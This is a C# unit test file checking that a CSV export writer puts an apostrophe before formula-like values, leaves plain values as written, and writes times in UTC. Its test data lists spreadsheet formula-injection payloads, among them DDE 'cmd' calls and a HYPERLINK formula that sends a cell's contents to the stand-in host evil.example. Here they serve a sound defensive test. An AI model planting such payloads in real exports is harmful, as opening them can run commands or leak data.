using CsvHelper;
using Portal.Core.Exports;

namespace Unit.Exports;

/// <summary>What a spreadsheet would run when it opens an export.</summary>
[Trait("Requirement", "R-46")]
public sealed class CsvTextTests
{
    public static TheoryData<string> Formulas { get; } =
    [
        "=1+1", "=cmd|' /C calc'!A0", "=HYPERLINK(\"https://evil.example/?\"&A1,\"open\")", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\0=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1", "＝1+1", "－1", "＋1", "＠A1", "=\"a\r\nb\"", "-", "+", "@", "=",
        "\ufeff=1+1", "\u200b=1+1", "\u2028=1+1", "\tplain", "\0plain", "\rplain", "\nplain",
    ];

    [Theory]
    [MemberData(nameof(Formulas))]
    public async Task WriteLine_ValueLikeAFormula_StartsWithAnApostropheAndKeepsItsText(string value)
    {
        var fields = await WriteAndReadAsync("before", value, "after");

        Assert.Equal(["before", "'" + value, "after"], fields);
    }

    [Theory]
    [InlineData("INV-01")]
    [InlineData("a=b")]
    [InlineData("")]
    [InlineData("北区 3 号逆变器")]
    [InlineData("say \"hi\", then, go")]
    [InlineData("'quoted'")]
    public async Task WriteLine_PlainValue_IsWrittenAsItIs(string value) =>
        Assert.Equal([value, "end"], await WriteAndReadAsync(value, "end"));

    [Fact]
    public void Time_LocalOffset_IsWrittenInUtc() =>
        Assert.Equal("2026-11-23T00:30:00Z", CsvText.Time(new DateTimeOffset(2026, 11, 23, 8, 30, 0, TimeSpan.FromHours(8))));

    private static async Task<string[]> WriteAndReadAsync(params string[] values)
    {
        using var stream = new MemoryStream();
        await using (var csv = CsvText.Writer(stream))
        {
            await csv.WriteLineAsync(values);
        }

        stream.Position = 0;
        using var reader = CsvReader.Create(stream, CsvReaderOptions.Default with { HasHeader = false });
        Assert.True(reader.Read());
        return [.. Enumerable.Range(0, values.Length).Select(reader.GetString)];
    }
}
